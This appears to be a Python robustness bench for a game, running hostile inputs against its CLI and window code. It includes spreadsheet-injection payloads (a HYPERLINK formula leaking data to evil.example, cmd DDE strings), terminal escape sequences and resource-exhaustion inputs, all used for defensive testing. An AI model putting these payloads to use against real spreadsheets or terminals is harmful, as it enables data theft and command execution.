"""Hostile and broken inputs against every door of the game; prints how many of each class keep the promise.

The promise: one clear sentence (never "internal error", never a traceback), bounded time and memory, nothing
lost, nothing written where it should not be. Each case runs the real command line (`python main.py ...`) or a
small driver of the window's code in a fresh process, with a time limit and an address-space cap, in a
scratch folder of its own. A script that prints figures, never a test:

    python bench/hostile.py                      # every case on this checkout
    python bench/hostile.py --repo /path/to/old  # the same cases on another checkout (before/after figures)
    python bench/hostile.py --only csv --show    # one class, with every case's outcome

Prints one JSON object: per class, how many cases kept the promise and why the others did not (timeout,
internal error, traceback, memory, wrong). Scenario cases use a small scenario written here, so the
bench does not depend on where the shipped scenarios live.
"""

from __future__ import annotations

import argparse
import csv
import errno
import io
import json
import os
import resource
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import yaml

HERE = Path(__file__).resolve().parent.parent
CPU_LIMIT = 30  # s of processor time per command: far more than any refusal needs; past it, a case is a hang
WAIT_LIMIT = 120.0  # s of wall time per command, for what blocks without computing (a FIFO) on a busy machine
MEMORY_LIMIT = 3 * 2**30  # bytes of address space per command: numpy, scipy and pygame fit in well under this
UNSAFE_FIRST = "=+-@\t\r"  # a spreadsheet cell starting with one of these is a formula (OWASP CSV injection)
TERMINAL_CONTROLS = ("\x1b", "\x07", "\x9b", "\r", "\u202e", "\x08")


# ------------------------------------------------------------------ running things


@dataclass
class Run:
    code: int | None  # None when killed for running too long
    out: str
    err: str
    seconds: float  # of processor time (the machine may be shared: wall time says little)
    peak_mib: float

    @property
    def timed_out(self) -> bool:
        return self.code is None

    @property
    def text(self) -> str:
        return self.out + self.err


@dataclass
class Outcome:
    ok: bool
    why: str  # "" when ok; else timeout, internal error, traceback, memory, killed, or "wrong: ..."
    seconds: float = 0.0
    peak_mib: float = 0.0


class Bench:
    """The checkout under test and the fixtures every case starts from."""

    def __init__(self, repo: Path, scratch: Path):
        self.repo, self.scratch = repo, scratch

    def env(self, data: Path, **extra: str) -> dict[str, str]:
        env = {k: v for k, v in os.environ.items() if not k.startswith("SIGNAL_RACE_")}
        env |= {
            "SIGNAL_RACE_DATA_DIR": str(data),
            "SDL_VIDEODRIVER": "dummy",
            "SDL_AUDIODRIVER": "dummy",
            "PYGAME_HIDE_SUPPORT_PROMPT": "1",
            "PYTHONDONTWRITEBYTECODE": "1",
            "OPENBLAS_NUM_THREADS": "1",
            "OMP_NUM_THREADS": "1",
            "PYTHONPATH": str(self.repo),
        }
        return env | extra

    def run(self, argv: list[str], folder: Path, file_limit: int | None = None, timeout: float = WAIT_LIMIT) -> Run:
        """Run `argv` (after the interpreter) in the checkout with caps; `file_limit` simulates a full disk."""

        def caps() -> None:
            resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))
            resource.setrlimit(resource.RLIMIT_CPU, (CPU_LIMIT, CPU_LIMIT + 5))
            if file_limit is not None:  # writes past this size fail with EFBIG, as on a full disk
                signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
                resource.setrlimit(resource.RLIMIT_FSIZE, (file_limit, file_limit))

        process = subprocess.Popen(
            [sys.executable, *argv],
            cwd=self.repo,
            env=self.env(folder / "data"),
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,  # pipes, not files: a full-disk case caps the size of files it writes
            stderr=subprocess.PIPE,
            preexec_fn=caps,
        )
        with ThreadPoolExecutor(2) as readers:
            out, err = readers.submit(process.stdout.read), readers.submit(process.stderr.read)
            code, seconds, peak = _wait(process, timeout)
            return Run(code, _text(out.result()), _text(err.result()), seconds, peak)

    def cli(self, folder: Path, *argv: str, file_limit: int | None = None) -> Run:
        return self.run(["main.py", *argv], folder, file_limit)

    def driver(self, folder: Path, code: str, *argv: str, file_limit: int | None = None) -> Run:
        """Run a Python snippet against the checkout's `game` package (the window's code, headless)."""
        return self.run(["-c", code, *argv], folder, file_limit)


def _wait(process: subprocess.Popen, timeout: float) -> tuple[int | None, float, float]:
    """Exit code (None when stopped for running too long), processor seconds and peak MiB of this one process."""
    deadline = time.monotonic() + timeout
    code: int | None = None
    while True:
        pid, status, usage = os.wait4(process.pid, os.WNOHANG)
        if pid:
            code = os.waitstatus_to_exitcode(status)
            break
        if time.monotonic() > deadline:
            process.kill()
            _, status, usage = os.wait4(process.pid, 0)
            break
        time.sleep(0.02)
    process.returncode = code if code is not None else -9  # reaped here, so Popen must not wait again
    if code == -signal.SIGXCPU:
        code = None  # out of processor time: a hang that computes
    return code, usage.ru_utime + usage.ru_stime, usage.ru_maxrss / 1024


def _text(data: bytes) -> str:
    return data.decode("utf-8", "replace")


def failure(run: Run) -> str:
    """Why a run broke the promise whatever the case ("" when it did not)."""
    if run.timed_out:
        return "timeout"
    if "internal error" in run.err:
        return "internal error"
    if "Traceback" in run.text:
        return "traceback"
    if "MemoryError" in run.text:
        return "memory"
    if run.code is not None and run.code < 0:
        return f"killed (signal {-run.code})"
    return ""


def sentence(run: Run) -> Outcome:
    """Refused in one clear sentence, in bounded time."""
    why = failure(run) or ("" if run.code in (1, 2) and run.err.strip() else f"wrong: exit {run.code}, no sentence")
    return Outcome(not why, why, run.seconds, run.peak_mib)


def accepted(run: Run, check: Callable[[], str] = lambda: "") -> Outcome:
    """Did what was asked (exit 0), and `check` finds nothing wrong."""
    why = failure(run) or ("" if run.code == 0 else f"wrong: refused ({_last(run.err)})") or check()
    return Outcome(not why, why, run.seconds, run.peak_mib)


def either(run: Run) -> Outcome:
    """Accepted, or refused in a sentence: both keep the promise."""
    return accepted(run) if run.code == 0 else sentence(run)


def _last(text: str) -> str:
    lines = [line for line in text.strip().splitlines() if line.strip()]
    return lines[-1][:160] if lines else ""


def driven(run: Run) -> dict:
    """The JSON line a driver printed last (empty when it printed none)."""
    lines = [line for line in run.out.splitlines() if line.startswith("{")]
    return json.loads(lines[-1]) if lines else {}


# ------------------------------------------------------------------ fixtures

BASE_SCENARIO = {
    "format": 1,
    "id": "hostile",
    "title": "Hostile inputs",
    "turns": 10,
    "organization": {
        "people": [
            {"id": "ceo", "name": "Chief", "spokesperson": True},
            {"id": "ops", "name": "Olga Ops", "manager": "ceo", "skills": ["ops"]},
            {"id": "desk", "name": "Dan Desk", "manager": "ops"},
        ],
        "network": {"model": "small_world", "mean_degree": 2},
    },
    "channels": [{"id": "news", "kind": "broadcast", "every": 3}],
    "signals": [{"id": "tip", "title": "A tip", "appears": {"at": "desk"}, "exploit": {"skills": ["ops"]}}],
}


def scenario_text(**changes: object) -> str:
    data = json.loads(json.dumps(BASE_SCENARIO))
    for dotted, value in changes.items():
        node, keys = data, dotted.split("__")
        for key in keys[:-1]:
            node = node[int(key)] if key.isdigit() else node[key]
        last = keys[-1]
        node[int(last) if last.isdigit() else last] = value
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False)


def generated(count: int, degree: float, model: str = "small_world", **more: object) -> str:
    extra = {"organization__generate": [{"under": "ceo", "count": count, "span": 8}]}
    extra["organization__network"] = {"model": model, "mean_degree": degree}
    return scenario_text(**extra, **more)


HEADER = "id,name,title,department,manager_id\n"
SMALL_CSV = HEADER + "e1,Ana Boss,Chief executive,Executive,\ne2,Ben Rep,Sales rep,Sales,e1\n"

MAKE_SESSION = r"""
import json, sys
from pathlib import Path
from game.persistence.saves import save_session
from game.scenario.loader import load_scenario
from game.workshop.session import Session
scenario = load_scenario(sys.argv[1])
teams = json.loads(sys.argv[2])
session = Session.start(scenario, teams, mode="solo" if len(teams) == 1 else "hotseat", seed=3)
for _ in range(2 * len(teams)):
    session.end_planning()
print(json.dumps({"path": str(save_session(session))}))
"""

WINDOW_START = r"""
import json
from game.ui.app import App
from game.ui.scenes.menu import MenuScene
app = App((1280, 720), "en")
app.push(MenuScene(app))
app.step([], 1 / 60)
top = app.top
said = [getattr(top, name, None) for name in ("problem", "notice")] + [getattr(app, "banner", None)]
print(json.dumps({"top": type(top).__name__, "said": [str(s) for s in said if s]}))
"""

WINDOW_LOAD = r"""
import json, sys
from pathlib import Path
from game.persistence.saves import SaveError, list_saves, load_session
try:
    load_session(Path(sys.argv[1]))
    print(json.dumps({"loaded": True, "listed": len(list_saves())}))
except SaveError as error:
    print(json.dumps({"loaded": False, "reason": error.reason, "listed": len(list_saves())}))
"""

WINDOW_PLAY_FULL_DISK = r"""
import errno, json, os, sys
from game.ui import flow
from game.ui.app import App
from game.ui.scenes.menu import MenuScene
from game.scenario.loader import load_scenario
from game.workshop.session import Session
app = App((1280, 720), sys.argv[2])
app.push(MenuScene(app))
session = Session.start(load_scenario(sys.argv[1]), ["Orion"], mode="solo", seed=3)
if sys.argv[3] == "read-only":
    def refuse(*_):
        raise OSError(errno.EROFS, "Read-only file system")
    os.replace = refuse
app.apply(flow.start_game(app, session))
app.step([], 1 / 60)
outcome = session.end_planning()
app.apply(flow.after_planning(app, session, outcome))
app.step([], 1 / 60)
shown = getattr(app, "banner", None)
print(json.dumps({"top": type(app.top).__name__, "banner": str(shown) if shown else None}))
"""


class Fixtures:
    """Files made once per bench run with the checkout under test: a scenario, a game save, a session."""

    def __init__(self, bench: Bench):
        self.bench = bench
        folder = bench.scratch / "fixtures"
        folder.mkdir()
        self.folder = folder
        self.scenario = folder / "hostile.yaml"
        self.scenario.write_text(scenario_text(), encoding="utf-8")
        self.save = folder / "game.json"
        done = bench.cli(folder, "play", str(self.scenario), "--headless", "--bot", "mixed", "--save", str(self.save))
        assert done.code == 0, done.err
        self.save_record = json.loads(self.save.read_text(encoding="utf-8"))
        self.session_record = self.make_session(["Orion"])

    def make_session(self, teams: list[str], scenario: Path | None = None) -> dict:
        run = self.bench.driver(self.folder, MAKE_SESSION, str(scenario or self.scenario), json.dumps(teams))
        assert run.code == 0, run.err
        return json.loads(Path(driven(run)["path"]).read_text(encoding="utf-8"))


# ------------------------------------------------------------------ the cases


@dataclass
class Case:
    klass: str
    name: str
    check: Callable[[Bench, Fixtures, Path], Outcome]  # gets a fresh, empty folder of its own


CASES: list[Case] = []


def case(klass: str, name: str):
    def register(check: Callable[[Bench, Fixtures, Path], Outcome]) -> Callable:
        CASES.append(Case(klass, name, check))
        return check

    return register


def write(folder: Path, name: str, content: str | bytes) -> Path:
    path = folder / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


def dumped(record: object) -> str:
    return json.dumps(record, ensure_ascii=True)


# ---- amplification: small files that ask for huge organisations (loaded, then played by the idle bot)

PLAY_IDLE = ("play", "--headless", "--bot", "idle", "--seed", "1")

AMPLIFIED = {
    "200,000 people x mean_degree 1000 (small world)": lambda: generated(199_000, 1000),
    "200,000 people x mean_degree 1000 (scale free)": lambda: generated(199_000, 1000, "scale_free"),
    "100,000 people x mean_degree 300": lambda: generated(100_000, 300),
    "200,000 people x 3,000 signals": lambda: generated(
        199_000, 2, signals=[{"id": f"s{i}", "appears": {"at": "desk"}} for i in range(3000)]
    ),
    "200,000 people x 5,000 skill tags": lambda: scenario_text(
        organization__generate=[
            {"under": "ceo", "count": 199_000, "span": 8, "skills": {f"k{i}": 0.5 for i in range(5000)}}
        ]
    ),
    "200,000 people x 1,000 communities": lambda: scenario_text(
        organization__generate=[{"under": "ceo", "count": 199_000, "span": 8}],
        organization__network={
            "model": "none",
            "communities": [{"id": f"c{i}", "members": {"departments": ["general"]}} for i in range(1000)],
        },
    ),
}

for _name, _make in AMPLIFIED.items():

    @case("amplification", _name)
    def _amplified(bench: Bench, fx: Fixtures, tmp: Path, make=_make) -> Outcome:
        return either(bench.cli(tmp, *PLAY_IDLE, str(write(tmp, "big.yaml", make()))))


@case("amplification", "control: 190,000 people x mean_degree 17, about the most ties allowed, validates")
def _control_largest(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    return accepted(bench.cli(tmp, *PLAY_IDLE, str(write(tmp, "large.yaml", generated(190_000, 17)))))


@case("amplification", "control: 20,000 people x mean_degree 100 validates")
def _control_amplification(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    return accepted(bench.cli(tmp, *PLAY_IDLE, str(write(tmp, "fine.yaml", generated(20_000, 100)))))


# ---- validation that never ends: manager chains through duplicated ids


def looped_people(people: list[dict]) -> str:
    return scenario_text(organization__people=people, signals=[{"id": "tip", "appears": {"at": "ceo"}}])


LOOPS = {
    "a chain loops back through a duplicated id": [
        {"id": "ceo"},
        {"id": "a", "manager": "ceo"},
        {"id": "b", "manager": "a"},
        {"id": "a", "manager": "b"},
    ],
    "a duplicated id is its own manager": [{"id": "ceo"}, {"id": "a", "manager": "ceo"}, {"id": "a", "manager": "a"}],
    "a duplicated top manages the chain below it": [
        {"id": "ceo"},
        {"id": "x", "manager": "ceo"},
        {"id": "y", "manager": "x"},
        {"id": "ceo", "manager": "y"},
    ],
    "two duplicated ids manage each other": [
        {"id": "ceo"},
        {"id": "a", "manager": "ceo"},
        {"id": "b", "manager": "ceo"},
        {"id": "a", "manager": "b"},
        {"id": "b", "manager": "a"},
    ],
}

for _name, _people in LOOPS.items():

    @case("endless validation", _name)
    def _loop(bench: Bench, fx: Fixtures, tmp: Path, people=_people) -> Outcome:
        return sentence(bench.cli(tmp, "validate", str(write(tmp, "loop.yaml", looped_people(people)))))


@case("endless validation", "a CSV whose managers loop through a duplicated id")
def _csv_loop(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    text = HEADER + "a,A,,X,\nb,B,,X,c\nc,C,,X,b\nb,B2,,X,a\n"
    return sentence(bench.cli(tmp, "import-org", str(write(tmp, "staff.csv", text)), "--out", str(tmp / "o.yaml")))


# ---- blocking or endless reads: FIFOs, devices, folders and links to them


def special(tmp: Path, kind: str, name: str) -> Path:
    path = tmp / name
    if kind == "FIFO":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    else:
        path.symlink_to({"link to /dev/zero": "/dev/zero", "link to /dev/urandom": "/dev/urandom"}[kind])
    return path


SPECIAL_KINDS = ("FIFO", "link to /dev/zero", "folder", "link to /dev/urandom")
COMMANDS = {
    "validate": lambda p, tmp: ["validate", str(p)],
    "play": lambda p, tmp: ["play", str(p), "--headless", "--bot", "idle"],
    "replay": lambda p, tmp: ["replay", str(p)],
    "report": lambda p, tmp: ["report", str(p), "--out", str(tmp / "report")],
    "import-org": lambda p, tmp: ["import-org", str(p), "--out", str(tmp / "org.yaml")],
}

for _kind in SPECIAL_KINDS:
    for _command, _argv in COMMANDS.items():

        @case("blocking reads", f"{_command} given a {_kind}")
        def _special(bench: Bench, fx: Fixtures, tmp: Path, kind=_kind, argv=_argv) -> Outcome:
            return sentence(bench.cli(tmp, *argv(special(tmp, kind, "input.yaml"), tmp)))

    @case("blocking reads", f"the window starts with an autosave that is a {_kind}")
    def _autosave_special(bench: Bench, fx: Fixtures, tmp: Path, kind=_kind) -> Outcome:
        saves = tmp / "data" / "saves"
        saves.mkdir(parents=True)
        special(saves, kind, "autosave.json")
        return window_up(bench.driver(tmp, WINDOW_START))


@case("blocking reads", "the window lists a FIFO among the saves")
def _listed_fifo(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    saves = tmp / "data" / "saves"
    saves.mkdir(parents=True)
    fifo = special(saves, "FIFO", "workshop.json")
    return refused_by_window(bench.driver(tmp, WINDOW_LOAD, str(fifo)))


@case("blocking reads", "a save names a FIFO as its scenario")
def _scenario_fifo(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    fifo = special(tmp, "FIFO", "scenario.yaml")
    record = dict(fx.save_record, scenario=str(fifo), scenario_id="nothing-shipped")
    return sentence(bench.cli(tmp, "replay", str(write(tmp, "game.json", dumped(record)))))


def window_up(run: Run) -> Outcome:
    why = failure(run)
    if not why and driven(run).get("top") != "MenuScene":
        why = f"wrong: the window shows {driven(run).get('top') or 'nothing'} ({_last(run.err)})"
    return Outcome(not why, why, run.seconds, run.peak_mib)


def refused_by_window(run: Run) -> Outcome:
    shown = driven(run)
    why = failure(run) or ("" if shown.get("loaded") is False and shown.get("reason") else f"wrong: {shown}")
    return Outcome(not why, why, run.seconds, run.peak_mib)


# ---- "internal error" instead of a sentence


def save_with(fx: Fixtures, **changes: object) -> str:
    return dumped(dict(fx.save_record, **changes))


def session_with(fx: Fixtures, **changes: object) -> str:
    return dumped(dict(fx.session_record, **changes))


def team_with(fx: Fixtures, **changes: object) -> str:
    team = dict(fx.session_record["teams"][0], **changes)
    return dumped(dict(fx.session_record, teams=[team]))


DEEP = "[" * 100_000 + "]" * 100_000
SAVES = {
    "nested 100,000 deep": lambda fx: DEEP,
    "nested 100,000 deep inside an object": lambda fx: '{"format": 2, "actions": ' + DEEP + "}",
    "difficulty: []": lambda fx: save_with(fx, difficulty=[]),
    "difficulty: {}": lambda fx: save_with(fx, difficulty={}),
    "seed: 1e300": lambda fx: save_with(fx, seed=1e300),
    "seed: 10^40": lambda fx: save_with(fx, seed=10**40),
    "seed: true": lambda fx: save_with(fx, seed=True),
    "a lone surrogate in the bot's name": lambda fx: save_with(fx, bot="\ud800"),
    "a bot name of a million characters": lambda fx: save_with(fx, bot="x" * 1_000_000),
    "bot: {}": lambda fx: save_with(fx, bot={}),
    "scenario: 5": lambda fx: save_with(fx, scenario=5),
    "scenario_id: []": lambda fx: save_with(fx, scenario_id=[]),
    "scenario_digest: []": lambda fx: save_with(fx, scenario_digest=[]),
    "an action kind that is a list": lambda fx: save_with(fx, actions=[{"kind": ["escalate"]}]),
    "an action field that is an object": lambda fx: save_with(fx, actions=[{"kind": "escalate", "person": {}}]),
    "200,000 empty actions": lambda fx: save_with(fx, actions=[{}] * 200_000),
    "NUL bytes": lambda fx: save_with(fx, bot="a\x00b"),
}

for _name, _make in SAVES.items():

    @case("internal error", f"replay: {_name}")
    def _replay_bad(bench: Bench, fx: Fixtures, tmp: Path, make=_make) -> Outcome:
        return either(bench.cli(tmp, "replay", str(write(tmp, "game.json", make(fx)))))

    @case("internal error", f"report: {_name}")
    def _report_bad(bench: Bench, fx: Fixtures, tmp: Path, make=_make) -> Outcome:
        return either(bench.cli(tmp, "report", str(write(tmp, "game.json", make(fx))), "--out", str(tmp / "r")))


SESSIONS = {
    "difficulty: []": lambda fx: session_with(fx, difficulty=[]),
    "mode: {}": lambda fx: session_with(fx, mode={}),
    "teams: a string": lambda fx: session_with(fx, teams="Orion"),
    "a team name with a lone surrogate": lambda fx: team_with(fx, name="Or\udc80ion"),
    "a team name of 100,000 characters": lambda fx: team_with(fx, name="O" * 100_000),
    "colour: 10^9": lambda fx: team_with(fx, colour=10**9),
    "colour: -3": lambda fx: team_with(fx, colour=-3),
    "turn_seconds: -5": lambda fx: session_with(fx, turn_seconds=-5),
    "turn_seconds: 1e308": lambda fx: session_with(fx, turn_seconds=1e308),
    "active: '0'": lambda fx: session_with(fx, active="0"),
    "saved_at: 12": lambda fx: session_with(fx, saved_at=12),
    "turn: []": lambda fx: session_with(fx, turn=[]),
}

for _name, _make in SESSIONS.items():

    @case("internal error", f"report of a session: {_name}")
    def _session_report(bench: Bench, fx: Fixtures, tmp: Path, make=_make) -> Outcome:
        return either(bench.cli(tmp, "report", str(write(tmp, "s.json", make(fx))), "--out", str(tmp / "r")))

    @case("internal error", f"the window loads a session: {_name}")
    def _session_window(bench: Bench, fx: Fixtures, tmp: Path, make=_make) -> Outcome:
        saves = tmp / "data" / "saves"
        saves.mkdir(parents=True)
        path = write(saves, "autosave.json", make(fx))
        return window_up(bench.driver(tmp, WINDOW_START + RESUME_AND_DRAW, str(path)))


RESUME_AND_DRAW = r"""
from tests.ui.driver import click
if getattr(top, "interrupted", None) is not None:
    click(app, "ui.menu.resume")
    for _ in range(3):
        app.step([], 1 / 60)
    print(json.dumps({"top": "MenuScene" if type(app.top).__name__ != "ErrorScene" else "ErrorScene"}))
"""

BAD_CSV = {
    "a NUL byte": (HEADER + "a,A\x00,,X,\nb,B,,X,a\n").encode(),
    "a bell and an escape in a name": (HEADER + "a,A\x07\x1b[2J,,X,\nb,B,,X,a\n").encode(),
    "a C1 control (NEL) in a name": (HEADER + "a,A\x85x,,X,\nb,B,,X,a\n").encode(),
    "a 200,000-character cell": (HEADER + "a," + "x" * 200_000 + ",,X,\nb,B,,X,a\n").encode(),
    "a 5,000-character name": (HEADER + "a," + "x" * 5_000 + ",,X,\nb,B,,X,a\n").encode(),
    "a header and no row": HEADER.encode(),
    "an empty file": b"",
    "binary garbage": bytes(range(256)) * 40,
    "only separators": b";;;;\n;;;;\n",
    "a header of 10,000 columns": (",".join(f"c{i}" for i in range(10_000)) + "\n").encode(),
    "an unterminated quote": (HEADER + 'a,"Ana,,X,\nb,B,,X,a\n').encode(),
    "a department of 300 characters": (HEADER + "a,A,," + "D" * 300 + ",\nb,B,,X,a\n").encode(),
    "a formula as a department": (HEADER + "a,A,,=1+1,\nb,B,,X,a\n").encode(),
}

for _name, _content in BAD_CSV.items():

    @case("internal error", f"import-org: {_name}")
    def _bad_csv(bench: Bench, fx: Fixtures, tmp: Path, content=_content) -> Outcome:
        return either(bench.cli(tmp, "import-org", str(write(tmp, "staff.csv", content)), "--out", str(tmp / "o.yaml")))


# ---- terminal injection: what reaches the terminal holds no control sequence


def clean_terminal(run: Run) -> Outcome:
    why = failure(run)
    raw = [repr(c) for c in TERMINAL_CONTROLS if c in run.text]
    if not why and raw:
        why = f"wrong: raw {', '.join(raw)} reached the terminal"
    return Outcome(not why, why, run.seconds, run.peak_mib)


TITLES = {
    "an escape sequence in the title": {"title": "Clear\x1b[2J\x1b]0;owned\x07"},
    "a carriage return in a signal title": {"signals__0__title": "Good news\rBAD NEWS"},
    "a right-to-left override in the title": {"title": "Report \u202egnp.exe"},
}

for _name, _changes in TITLES.items():

    @case("terminal injection", f"play: {_name}")
    def _play_title(bench: Bench, fx: Fixtures, tmp: Path, changes=_changes) -> Outcome:
        path = write(tmp, "s.yaml", scenario_text(**changes))
        return clean_terminal(bench.cli(tmp, "play", str(path), "--headless", "--bot", "mixed"))

    @case("terminal injection", f"replay: {_name}")
    def _replay_title(bench: Bench, fx: Fixtures, tmp: Path, changes=_changes) -> Outcome:
        path = write(tmp, "s.yaml", scenario_text(**changes))
        save = tmp / "game.json"
        bench.cli(tmp, "play", str(path), "--headless", "--bot", "mixed", "--save", str(save))
        return clean_terminal(bench.cli(tmp, "replay", str(save)))


@case("terminal injection", "validate: an escape sequence in a misspelt key")
def _validate_key(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    text = scenario_text() + '"turns\\e[2J\\e]0;owned\\a": 3\n'
    return clean_terminal(bench.cli(tmp, "validate", str(write(tmp, "s.yaml", text))))


@case("terminal injection", "validate: an escape sequence in a value")
def _validate_value(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    text = scenario_text().replace("turns: 10", 'turns: "ten\\e[2J\\a"')
    return clean_terminal(bench.cli(tmp, "validate", str(write(tmp, "s.yaml", text))))


@case("terminal injection", "replay: an escape sequence in the bot's name")
def _replay_bot(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    save = write(tmp, "game.json", save_with(fx, bot="mixed\x1b[2J\x1b]0;owned\x07"))
    return clean_terminal(bench.cli(tmp, "replay", str(save)))


@case("terminal injection", "import-org: an escape sequence in a column name")
def _csv_header(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    text = "id,nom\x1b[2J\x07,title,department,manager_id\na,A,,X,\n"
    return clean_terminal(bench.cli(tmp, "import-org", str(write(tmp, "s.csv", text)), "--out", str(tmp / "o.yaml")))


@case("terminal injection", "import-org: an escape sequence in an unknown manager")
def _csv_manager(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    text = HEADER + "a,A,,X,\nb,B,,X,zz\x1b[2J\x07\n"
    return clean_terminal(bench.cli(tmp, "import-org", str(write(tmp, "s.csv", text)), "--out", str(tmp / "o.yaml")))


# ---- spreadsheet injection: no cell of events.csv is a live formula


def live_formulas(folder: Path) -> list[str]:
    table = folder / "events.csv"
    if not table.exists():
        return ["no events.csv"]
    rows = csv.reader(io.StringIO(table.read_text(encoding="utf-8-sig")))
    return [cell for row in rows for cell in row if cell and cell[0] in UNSAFE_FIRST and not _number(cell)]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def no_formula(run: Run, folder: Path) -> Outcome:
    why = failure(run) or ("" if run.code == 0 else f"wrong: refused ({_last(run.err)})")
    found = [] if why else live_formulas(folder)
    if found:
        why = f"wrong: live formula {found[0][:40]!r}"
    return Outcome(not why, why, run.seconds, run.peak_mib)


FORMULA_TEAMS = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1"]

for _team in FORMULA_TEAMS:

    @case("spreadsheet injection", f"a team named {_team!r}")
    def _formula_team(bench: Bench, fx: Fixtures, tmp: Path, team=_team) -> Outcome:
        record = fx.make_session([team])
        run = bench.cli(tmp, "report", str(write(tmp, "s.json", dumped(record))), "--out", str(tmp / "r"))
        return no_formula(run, tmp / "r")


@case("spreadsheet injection", "people named like formulas in the scenario")
def _formula_people(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    people = [
        {"id": "ceo", "name": "=cmd|' /C calc'!A0", "spokesperson": True},
        {"id": "ops", "name": "@SUM(A1)", "manager": "ceo", "skills": ["ops"]},
        {"id": "desk", "name": "+HYPERLINK(1)", "manager": "ops"},
    ]
    path = write(tmp, "s.yaml", scenario_text(organization__people=people))
    save = tmp / "game.json"
    bench.cli(tmp, "play", str(path), "--headless", "--bot", "mixed", "--save", str(save))
    return no_formula(bench.cli(tmp, "report", str(save), "--out", str(tmp / "r")), tmp / "r")


# ---- real HR exports


def imported(bench: Bench, tmp: Path, content: bytes, *options: str, expect: tuple[str, ...] = ()) -> Outcome:
    out = tmp / "org.yaml"
    run = bench.cli(tmp, "import-org", str(write(tmp, "export.csv", content)), "--out", str(out), *options)

    def check() -> str:
        text = out.read_text(encoding="utf-8")
        missing = [word for word in expect if word not in text]
        return f"wrong: {missing[0]!r} is not in the scenario" if missing else ""

    return accepted(run, check)


FRENCH = "Matricule;Nom;Intitulé;Service;Responsable\n1;Éric Dupré;Directeur général;Direction;\n2;Léa Müller;Vendeuse;Ventes;1\n3;François Œuvray;Comptable;Finances;1\n"
FRENCH_MAP = ("--column", "id=Matricule", "--column", "name=Nom", "--column", "title=Intitulé")
FRENCH_MAP += ("--column", "department=Service", "--column", "manager_id=Responsable")


@case("HR exports", "a French Excel export: cp1252 with semicolons")
def _cp1252(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    return imported(bench, tmp, FRENCH.encode("cp1252"), *FRENCH_MAP, expect=("Éric Dupré", "François Œuvray"))


@case("HR exports", "cp1252 with the euro sign and curly quotes")
def _cp1252_euro(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    text = HEADER.replace(",", ";") + "a;Ana “Boss”;Budget €;Finance;\nb;Bob;Rep;Sales;a\n"
    return imported(bench, tmp, text.encode("cp1252"), expect=("Ana “Boss”", "Budget €"))


@case("HR exports", "UTF-16 with a BOM and tabs (Excel's Unicode text)")
def _utf16(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    text = FRENCH.replace(";", "\t")
    return imported(bench, tmp, text.encode("utf-16"), *FRENCH_MAP, expect=("Éric Dupré",))


@case("HR exports", "UTF-8 with a BOM and semicolons")
def _bom(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    return imported(bench, tmp, FRENCH.encode("utf-8-sig"), *FRENCH_MAP, expect=("Léa Müller",))


@case("HR exports", "Windows line endings and a final line without one")
def _crlf(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    return imported(bench, tmp, SMALL_CSV.replace("\n", "\r\n").rstrip().encode(), expect=("Ben Rep",))


@case("HR exports", 'standard quoting: "Jean ""JJ"" Dupont" and commas inside quotes')
def _quoting(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    text = HEADER + '1,"Jean ""JJ"" Dupont","Head, sales",Sales,\n2,"Martin; Paul",Rep,Sales,1\n'
    return imported(bench, tmp, text.encode(), expect=('Jean \\"JJ\\" Dupont', "Head, sales"))


@case("HR exports", "semicolons, with a quoted column name holding a comma")
def _quoted_header(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    text = (
        'id;name;"title, full";department;manager_id\n1;"Jean ""JJ"" Dupont";"Head; sales";Sales;\n2;Paul;Rep;Sales;1\n'
    )
    return imported(bench, tmp, text.encode(), "--column", "title=title, full", expect=("Head; sales",))


@case("HR exports", "a line break inside a quoted cell")
def _multiline(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    text = HEADER + 'a,"Ana\nBoss",CEO,Exec,\nb,Bob,Rep,Sales,a\n'
    return imported(bench, tmp, text.encode(), expect=("Bob",))


@case("HR exports", "ids made only of non-Latin letters stay distinct")
def _unicode_ids(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    text = HEADER + "张伟,Zhang Wei,CEO,Exec,\n李娜,Li Na,Rep,Sales,张伟\nПётр,Pyotr,Rep,Sales,张伟\n"
    return imported(bench, tmp, text.encode(), expect=("Li Na", "Pyotr"))


@case("HR exports", "ids that differ only by punctuation stay distinct")
def _punctuation_ids(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    text = HEADER + "a.b,Ana,CEO,Exec,\na b,Bob,Rep,Sales,a.b\na_b,Cid,Rep,Sales,a b\n"
    return imported(bench, tmp, text.encode(), expect=("Bob", "Cid"))


def rows(count: int) -> bytes:
    lines = [HEADER, "p0,Boss,CEO,Exec,\n"]
    lines += [f"p{i},Person {i},Sales representative,Dept {i % 50},p{(i - 1) // 10}\n" for i in range(1, count)]
    return "".join(lines).encode()


